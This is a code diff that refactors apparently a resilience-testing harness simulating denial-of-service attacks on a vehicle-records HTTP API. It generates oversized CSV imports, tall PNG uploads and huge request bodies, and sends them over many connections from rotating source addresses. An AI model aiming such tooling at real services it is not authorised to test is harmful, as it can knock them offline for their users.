@@ -2,8 +2,14 @@ import { randomBytes } from 'node:crypto';
 import { Agent, type IncomingMessage, type RequestOptions, request } from 'node:http';
 import { setTimeout as delay } from 'node:timers/promises';
 import { crc32, deflateSync } from 'node:zlib';
-import { ask, NoResponseError } from './ask.ts';
-import { type AttackerPlan, type Begin, type CostlyFile, Counts, type TacticOf } from './plan.ts';
+import { NoResponseError, sendAttackRequest } from './ask.ts';
+import {
+  type AttackerPlan,
+  type AttackTacticOf,
+  type BeginAttack,
+  type CostlyFileKind,
+  OutcomeCounter,
+} from './plan.ts';
 
 /** Kinds of PNG (ISO/IEC 15948 §11.2.2): colour type, bits of a channel, and bytes of a row with its filter. */
 const GREY = { colour: 0, depth: 1, rowBytes: (width: number) => 1 + Math.ceil(width / 8) };
@@ -30,14 +36,14 @@ function chunk(name: string, content: Buffer): Buffer {
   return Buffer.concat([length, body, sum]);
 }
 
-export function honestPhoto(): Buffer {
+export function createHarmlessPhoto(): Buffer {
   const side = 250;
   const rows = randomBytes(RGB.rowBytes(side) * side);
   for (let row = 0; row < side; row += 1) rows[row * RGB.rowBytes(side)] = 0;
   return png(side, side, RGB, rows);
 }
 
-export function makeCostlyFile(file: CostlyFile): Buffer {
+export function makeCostlyFile(file: CostlyFileKind): Buffer {
   switch (file) {
     case 'odd lines':
       return Buffer.from(`date,kind\n${'a\n'.repeat(60_000)}`);
@@ -52,8 +58,8 @@ export function makeCostlyFile(file: CostlyFile): Buffer {
 
 const PAUSE_MS = 250;
 
-export const costlyFiles: Begin<'costly-files'> = (plan, tactic) => {
-  const counts = new Counts();
+export const beginCostlyFiles: BeginAttack<'costly-files'> = (plan, tactic) => {
+  const counts = new OutcomeCounter();
   const contents = new Map(tactic.files.map((file) => [file, makeCostlyFile(file)]));
   const ending = new AbortController();
   const all = Array.from({ length: plan.connections }, async (_, number) => {
@@ -74,8 +80,8 @@ export const costlyFiles: Begin<'costly-files'> = (plan, tactic) => {
 
 async function sendOnce(
   { host, port, sources }: AttackerPlan,
-  { garages }: TacticOf<'costly-files'>,
-  { file, content }: { file: CostlyFile; content: Buffer | undefined },
+  { garages }: AttackTacticOf<'costly-files'>,
+  { file, content }: { file: CostlyFileKind; content: Buffer | undefined },
   number: number,
 ): Promise<string> {
   const garage = garages[number % garages.length];
@@ -83,7 +89,7 @@ async function sendOnce(
   const vehicle = `/api/v1/vehicles/${garage.vehicle}`;
   const isPhoto = file === 'tall photo';
   try {
-    const { status } = await ask({
+    const { status } = await sendAttackRequest({
       ...{ host, port, agent: false, localAddress: sources[number % sources.length] ?? host },
       method: isPhoto ? 'PUT' : 'POST',
       path: isPhoto ? `${vehicle}/photo` : `${vehicle}/records/import`,
@@ -104,8 +110,8 @@ async function sendOnce(
 /** Without a response after this time, the connection is dead. */
 const DEAD_MS = 20_000;
 
-export const largeBodies: Begin<'large-bodies'> = (plan, tactic) => {
-  const counts = new Counts();
+export const beginLargeBodies: BeginAttack<'large-bodies'> = (plan, tactic) => {
+  const counts = new OutcomeCounter();
   const body = Buffer.alloc(Math.max(...tactic.sizes), 'x');
   const ending = new AbortController();
   const pause = (ms: number) => delay(ms, undefined, { signal: ending.signal }).catch(() => undefined);
@@ -130,11 +136,11 @@ export const largeBodies: Begin<'large-bodies'> = (plan, tactic) => {
 
 async function tryOnce(
   plan: AttackerPlan,
-  { paths, identity, sizes }: TacticOf<'large-bodies'>,
+  { paths, identity, sizes }: AttackTacticOf<'large-bodies'>,
   agent: Agent,
   body: Buffer,
   number: number,
-  counts: Counts,
+  counts: OutcomeCounter,
 ): Promise<void> {
   const path = paths[number % paths.length] ?? '/';
   const bytes = sizes[Math.floor(number / paths.length) % sizes.length] ?? 0;
